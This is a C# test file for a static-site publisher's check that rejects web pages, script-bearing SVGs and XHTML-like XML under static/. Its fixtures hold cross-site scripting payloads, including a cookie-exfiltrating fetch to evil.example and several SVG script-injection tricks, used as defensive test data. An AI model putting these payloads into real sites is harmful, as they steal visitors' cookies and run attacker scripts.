using LondonTories.Cli;
using LondonTories.Publishing.Tests.Support;

namespace LondonTories.Publishing.Tests.Pipeline;

/// <summary>
/// Files under static/ are published as they are, at the site's own address: a web page there would
/// go out with no imprint and no sanitiser, and a picture or XML file that a browser opens could run
/// a script there. Each is an error at its file, and nothing is written.
/// </summary>
public sealed class ActiveStaticFileTests : IDisposable
{
    private readonly TestSite _site = new();

    public ActiveStaticFileTests() => _site.Page("pages/housing.md", "title: Housing", "Homes in {{ constituency.name }}.\n");

    public void Dispose() => _site.Dispose();

    private Task<CliRun> PublishAsync() =>
        _site.RunCliAsync("publish", "--content", _site.ContentDir, "--out", _site.OutDir, "--now", "2026-11-30T12:00:00Z");

    private async Task<string> RefusedAsync(string path)
    {
        var run = await PublishAsync();
        Assert.Equal(ExitCodes.ContentErrors, run.ExitCode);
        Assert.DoesNotContain("   at ", run.Stderr + run.Stdout);
        Assert.False(Directory.Exists(Path.Combine(_site.OutDir, "web")));
        return Assert.Single(run.Stderr.Split('\n'), l => l.Contains($"{path}:", StringComparison.Ordinal) && l.Contains(": error: ", StringComparison.Ordinal));
    }

    [Theory]
    [InlineData("static/landing/index.html")]
    [InlineData("static/vote.html")]
    [InlineData("static/Promo.HTML")]
    public async Task A_web_page_under_static_is_an_error_as_it_would_go_out_without_the_imprint(string path)
    {
        _site.Write(path, "<!DOCTYPE html><html><body><h1>Vote for us</h1><script>fetch('https://evil.example/?' + document.cookie)</script></body></html>");

        var error = await RefusedAsync(path);

        Assert.Contains($"{path}:1:1: error:", error, StringComparison.Ordinal);
        Assert.Contains("imprint", error, StringComparison.Ordinal);
        Assert.Contains("pages/", error, StringComparison.Ordinal);
        Assert.EndsWith("[static-page]", error, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("<svg xmlns=\"http://www.w3.org/2000/svg\">\n<script>alert(document.domain)</script>\n</svg>", 2, "script")]
    [InlineData("<svg xmlns=\"http://www.w3.org/2000/svg\">\n<rect width=\"9\" height=\"9\"/>\n<image href=\"x.png\" onerror=\"alert(1)\"/>\n</svg>", 3, "onerror")]
    [InlineData("<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\">\n<a xlink:href=\" JavaScript:alert(1)\"><text>Click</text></a>\n</svg>", 2, "javascript:")]
    [InlineData("<svg xmlns=\"http://www.w3.org/2000/svg\">\n<a><animate attributeName=\"href\" values=\"https://a.example;javascript:alert(1)\"/><text>Go</text></a>\n</svg>", 2, "javascript:")]
    [InlineData("<svg xmlns=\"http://www.w3.org/2000/svg\">\n<foreignObject width=\"9\" height=\"9\"><body xmlns=\"http://www.w3.org/1999/xhtml\"><iframe src=\"https://evil.example\"/></body></foreignObject>\n</svg>", 2, "foreignObject")]
    [InlineData("<?xml version=\"1.0\"?>\n<!DOCTYPE svg [<!ENTITY s \"<script>alert(1)</script>\">]>\n<svg xmlns=\"http://www.w3.org/2000/svg\">&s;</svg>", 2, "script")]
    public async Task A_picture_that_runs_a_script_when_opened_is_an_error_at_its_line(string svg, int line, string named)
    {
        _site.Write("static/images/card.svg", svg);

        var error = await RefusedAsync("static/images/card.svg");

        Assert.Contains($"static/images/card.svg:{line}:", error, StringComparison.Ordinal);
        Assert.Contains(named, error, StringComparison.Ordinal);
        Assert.EndsWith("[active-file]", error, StringComparison.Ordinal);
    }

    [Fact]
    public async Task An_xml_file_that_a_browser_would_run_as_a_web_page_is_an_error()
    {
        _site.Write("static/data/events.xml", "<?xml version=\"1.0\"?>\n<html xmlns=\"http://www.w3.org/1999/xhtml\"><body>\n<img src=\"x\" onerror=\"alert(1)\"/></body></html>");

        var error = await RefusedAsync("static/data/events.xml");

        Assert.Contains("static/data/events.xml:3:", error, StringComparison.Ordinal);
        Assert.EndsWith("[active-file]", error, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_picture_that_is_not_well_formed_cannot_be_checked_and_is_an_error_at_its_line()
    {
        _site.Write("static/images/card.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\">\n<rect width=\"9\">\n</svg>");

        var error = await RefusedAsync("static/images/card.svg");

        Assert.Contains("static/images/card.svg:3:", error, StringComparison.Ordinal);
        Assert.EndsWith("[invalid-xml]", error, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Plain_pictures_stylesheets_and_data_files_are_published_as_they_are()
    {
        const string svg = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\">\n" +
            "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\" role=\"img\" aria-labelledby=\"t\"><title id=\"t\">Card</title>" +
            "<defs><linearGradient id=\"g\"/></defs><rect fill=\"url(#g)\" width=\"9\" height=\"9\"/><use xlink:href=\"#g\"/><a href=\"https://www.londontories.org.uk/\"><text>Site</text></a>" +
            "<style>.a { fill: navy; }</style></svg>\n";
        _site.Write("static/images/card.svg", svg);
        _site.Write("static/data/events.xml", "<?xml version=\"1.0\"?>\n<events><event on=\"2026-12-12\">Action day</event></events>\n");
        _site.Write("static/assets/extra.css", "body { color: navy; }\n");
        _site.Write("static/files/manifesto.txt", "<script>not run: served as text</script>\n");

        var run = await PublishAsync();

        Assert.Equal(ExitCodes.Success, run.ExitCode);
        Assert.Equal(svg, _site.Output("web/images/card.svg"));
        Assert.True(_site.Exists("web/data/events.xml"));
        Assert.True(_site.Exists("web/files/manifesto.txt"));
    }
}
